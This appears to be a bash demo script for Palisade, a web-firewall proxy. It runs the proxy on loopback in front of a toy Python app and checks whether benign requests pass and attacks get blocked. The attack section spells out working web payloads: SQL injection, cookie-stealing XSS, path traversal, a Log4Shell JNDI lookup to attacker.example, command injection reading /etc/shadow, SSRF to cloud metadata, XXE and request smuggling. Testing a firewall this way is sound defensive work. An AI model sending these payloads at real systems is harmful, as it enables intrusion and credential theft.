#!/usr/bin/env bash
# Palisade in one command: builds palisade-proxy, puts it in front of a small demo
# application on loopback with the built-in rules, sends benign requests and attacks through
# it, and shows what the application received, the alerts and the metrics.
#
#   ./scripts/demo.sh              # block mode (the default)
#   MODE=detect ./scripts/demo.sh  # forward everything, alert only
#
# Only loopback is used. Ports: PALISADE_DEMO_PORT (15006), +1 for the app, +14 for admin.
set -euo pipefail
cd "$(dirname "$0")/.."

MODE="${MODE:-block}"
PORT="${PALISADE_DEMO_PORT:-15006}"
APP_PORT=$((PORT + 1))
ADMIN_PORT=$((PORT + 14))
for tool in curl python3 cargo; do
    command -v "$tool" >/dev/null || { echo "demo: '$tool' is needed (apt-get install -y curl python3)" >&2; exit 2; }
done

echo "== building palisade-proxy (release)"
cargo build --release --locked -q -p palisade-proxy
TARGET_DIR="$(cargo metadata --format-version 1 --no-deps | python3 -c 'import json,sys; print(json.load(sys.stdin)["target_directory"])')"
PROXY="$TARGET_DIR/release/palisade-proxy"

WORK="$(mktemp -d)"
PIDS=()
cleanup() {
    for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
    wait 2>/dev/null || true
    rm -rf "$WORK"
}
trap cleanup EXIT

# The "application": answers every request and logs what it received, one line each.
cat >"$WORK/app.py" <<'EOF'
import http.server, sys
class App(http.server.BaseHTTPRequestHandler):
    def handle_any(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        with open(sys.argv[2], "a") as log:
            log.write(f"{self.command} {self.path} ({len(body)} body bytes)\n")
        out = b"hello from the application\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = do_PUT = do_DELETE = handle_any
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), App).serve_forever()
EOF
: >"$WORK/app.log"
python3 "$WORK/app.py" "$APP_PORT" "$WORK/app.log" &
PIDS+=($!)

"$PROXY" --listen "127.0.0.1:$PORT" --upstream "127.0.0.1:$APP_PORT" \
    --admin "127.0.0.1:$ADMIN_PORT" --mode "$MODE" --alerts "$WORK/alerts.jsonl" \
    2>"$WORK/proxy.log" &
PIDS+=($!)

for _ in $(seq 1 100); do
    curl -fs "http://127.0.0.1:$ADMIN_PORT/readyz" >/dev/null 2>&1 && break
    sleep 0.1
done
curl -fs "http://127.0.0.1:$ADMIN_PORT/readyz" >/dev/null || {
    echo "demo: the proxy did not become ready; its log:" >&2
    cat "$WORK/proxy.log" >&2
    exit 1
}

echo "== palisade-proxy (mode $MODE, built-in rules) on 127.0.0.1:$PORT in front of 127.0.0.1:$APP_PORT"
FAILED=0
# send EXPECTED WHAT CURL-ARGS...: EXPECTED is "benign" or "attack".
send() {
    local kind="$1" what="$2"
    shift 2
    local code want=200
    [ "$kind" = attack ] && [ "$MODE" = block ] && want="4xx"
    code="$(curl -s -o /dev/null -w '%{http_code}' "$@")"
    local ok=yes
    case "$want" in
        200) [ "$code" = 200 ] || ok=no ;;
        4xx) [[ "$code" =~ ^4 ]] || ok=no ;;
    esac
    [ "$ok" = yes ] || FAILED=$((FAILED + 1))
    printf '  %-44s -> %s%s\n' "$what" "$code" "$([ "$ok" = yes ] || echo "   (expected $want)")"
}
URL="http://127.0.0.1:$PORT"
echo "-- benign"
send benign "GET /products?id=42&sort=price" "$URL/products?id=42&sort=price"
send benign "POST form (a comment with an apostrophe)" --data-urlencode "comment=It's great, isn't it?" "$URL/comments"
send benign "POST JSON order" -H 'Content-Type: application/json' --data '{"order":{"sku":"A-1","qty":2,"note":"ring twice"}}' "$URL/orders"
echo "-- attacks"
send attack "SQL injection in the query" "$URL/products?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"
send attack "XSS in a cookie" -H 'Cookie: theme=<script>alert(document.cookie)</script>' "$URL/"
send attack "path traversal" --path-as-is "$URL/static/../../../../etc/passwd"
send attack "Log4Shell in a header" -H 'X-Api-Version: ${jndi:ldap://attacker.example/a}' "$URL/"
send attack "command injection in JSON" -H 'Content-Type: application/json' --data '{"host":"8.8.8.8; cat /etc/shadow"}' "$URL/ping"
send attack "SSRF to cloud metadata (form)" --data 'url=http://169.254.169.254/latest/meta-data/' "$URL/fetch"
send attack "XXE in an XML body" -H 'Content-Type: application/xml' --data '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' "$URL/import"
send attack "request smuggling (CL + TE)" -H 'Transfer-Encoding: chunked' -H 'Content-Length: 4' --data-binary $'0\r\n\r\n' "$URL/"

sleep 0.3
echo "== what the application received"
sed 's/^/  /' "$WORK/app.log"
echo "== alerts (JSON lines; first one in full)"
if [ -s "$WORK/alerts.jsonl" ]; then
    head -n 1 "$WORK/alerts.jsonl" | python3 -m json.tool | sed 's/^/  /'
    python3 - "$WORK/alerts.jsonl" <<'EOF'
import json, sys
for line in open(sys.argv[1]):
    a = json.loads(line)
    rules = ",".join(sorted({m["rule"] for m in a.get("matches", [])})) or a.get("reason") or "-"
    print(f'  {a["action"]:<9} score={a["score"]:<3} {a["method"]} {a["uri"][:60]:<60} {rules}')
EOF
else
    echo "  (none)"
fi
echo "== metrics (excerpt of http://127.0.0.1:$ADMIN_PORT/metrics)"
curl -fs "http://127.0.0.1:$ADMIN_PORT/metrics" | grep -E '^palisade_(requests_total|protocol_rejections_total|ruleset_info)' | sed 's/^/  /' || true
if [ "$FAILED" -ne 0 ]; then
    echo "demo: $FAILED request(s) did not get the expected answer" >&2
    exit 1
fi
